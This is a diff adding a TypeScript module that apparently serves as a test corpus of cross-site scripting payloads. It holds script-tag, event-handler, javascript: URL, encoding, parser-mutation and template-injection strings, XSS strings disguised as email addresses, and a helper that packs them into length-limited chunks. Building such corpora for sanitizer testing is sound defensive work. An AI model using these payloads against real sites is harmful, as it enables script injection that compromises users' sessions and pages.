@@ -1,0 +1,96 @@
+/** What has made pages run what somebody typed: out of text, out of attributes, out of addresses, out of templates, and in what parsers mend. */
+export const corpus: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<ScRiPt>alert(1)</sCrIpT>',
+  '<script src=data:text/javascript,alert(1)></script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '--><script>alert(1)</script><!--',
+  ']]><script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img/src=x/onerror=alert(1)>',
+  '"><img src=x onerror=alert(1)>',
+  "'><img src=x onerror=alert(1)>",
+  '<img src=x onerror=alert`1`>',
+  '<img src="x" onerror="&#97;lert(1)">',
+  '&lt;img src=x onerror=alert(1)&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  '\\u003cimg src=x onerror=alert(1)\\u003e',
+  '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E',
+  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '＜script＞alert(1)＜/script＞',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert&#40;1)</script>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+  '<math><a xlink:href=javascript:alert(1)>x</a></math>',
+  '<body onload=alert(1)>',
+  '<body onpageshow=confirm(1)>',
+  '<iframe src=javascript:alert(1)>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>">',
+  '<object data=javascript:alert(1)>',
+  '<embed src=javascript:alert(1)>',
+  '<link rel=stylesheet href=data:text/css,*{x:expression(alert(1))}>',
+  '<style>@import "data:text/css,*{color:red}";</style>',
+  '<base href="https://ailleurs.example/">',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<meta http-equiv=Content-Security-Policy content="script-src *">',
+  '<form action=javascript:alert(1)><button>x</button></form>',
+  '<button formaction=javascript:alert(1)>x</button>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<marquee onstart=alert(1)>',
+  '<video><source onerror=prompt(1)></video>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)//http://pli.example',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  '" onmouseover="alert(1)" x="',
+  "' onmouseover='alert(1)' x='",
+  '" autofocus onfocus="alert(1)" x="',
+  '` onmouseover=`alert(1)`',
+  "';alert(1);//",
+  '";alert(1);//',
+  `\${alert(1)}`,
+  '{{constructor.constructor("alert(1)")()}}',
+  '<%= alert(1) %>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
+  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  '<turbo-stream action="append" target="contenu"><template><img src=x onerror=alert(1)></template></turbo-stream>',
+  '<turbo-frame id=x src="//ailleurs.example/"></turbo-frame>',
+  '<a href="/deconnexion" data-turbo-method="post">x</a>',
+  '<rich-text onclick=alert(1)><textarea></textarea></rich-text>',
+  '<toast-message><img src=x onerror=alert(1)></toast-message>',
+  '\u202e<script>alert(1)</script>\u202c',
+  '<img src=x onerror=alert(1)\u2028>',
+  '<\u0085script>alert(1)</script>',
+  'alert(1)//<svg/onload=prompt(1)>',
+];
+
+/** Parts of addresses that pass for one. */
+export const corpusOfAddresses: readonly string[] = [
+  "'onfocus='alert`1`'x='@ailleurs.example",
+  "'-alert`1`-'@ailleurs.example",
+  '$alert`1`@ailleurs.example',
+  '{{alert`1`}}@ailleurs.example',
+  '%3Cscript%3Ealert`1`%3C/script%3E@ailleurs.example',
+  'javascript/alert`1`//@ailleurs.example',
+];
+
+/** As many together as fit in `most` characters, between marks that no trimming takes. */
+export function packs(strings: readonly string[], most: number): string[] {
+  const all: string[] = [];
+  for (const string of strings.filter((one) => one.length + 2 <= most)) {
+    const last = all.at(-1);
+    if (last !== undefined && last.length + string.length + 2 <= most) all[all.length - 1] = `${last}¦${string}`;
+    else all.push(`«${string}`);
+  }
+  return all;
+}
